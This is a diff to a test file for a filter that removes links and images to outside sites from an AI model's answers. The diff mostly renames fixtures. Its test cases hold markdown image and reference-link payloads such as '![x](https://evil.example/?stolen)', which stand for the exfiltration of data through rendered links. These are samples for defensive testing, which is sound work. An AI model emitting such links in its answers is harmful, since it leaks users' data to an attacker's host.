@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { toSpokenText } from '../../../shared/spoken-text.ts';
-import { sayings } from '../../../test/fixtures/hostile-texts.ts';
-import { reachedBy } from '../../../test/fixtures/shown-markdown.ts';
+import { hostileAnswers } from '../../../test/fixtures/hostile-texts.ts';
+import { linkedAddresses } from '../../../test/fixtures/markdown-addresses.ts';
 import { addressesIn, filterAnswer } from './answer-filter.ts';
 
 const permitted = addressesIn([
@@ -10,9 +10,9 @@ const permitted = addressesIn([
 ]);
 
 describe('an answer of a model', () => {
-  test.each(sayings)('contains no link or picture to another site: %s', (saying) => {
+  test.each(hostileAnswers)('contains no link or picture to another site: %s', (saying) => {
     const shown = filterAnswer(saying.replaceAll('LOOT', 'stolen'), permitted);
-    expect(reachedBy(shown).filter((what) => what !== 'link https://shop.example')).toEqual([]);
+    expect(linkedAddresses(shown).filter((what) => what !== 'link https://shop.example')).toEqual([]);
     expect(shown).not.toMatch(/(?:https?|ftp):\/\/(?!shop\.example(?![\w.@/?#]))/i);
   });
 
@@ -43,8 +43,8 @@ describe('an answer of a model', () => {
     '[x][]\n\n[x]: <//evil.example/stolen>',
     '```\n![x](https://evil.example/?stolen)\n```\n![x](https://evil.example/?stolen)',
   ])('contains no multi-line link or picture to another site: %j', (answer) => {
-    expect(reachedBy(answer)).not.toEqual([]);
-    expect(reachedBy(filterAnswer(answer, permitted))).toEqual([]);
+    expect(linkedAddresses(answer)).not.toEqual([]);
+    expect(linkedAddresses(filterAnswer(answer, permitted))).toEqual([]);
   });
 
   test('contains no invisible characters', () => {
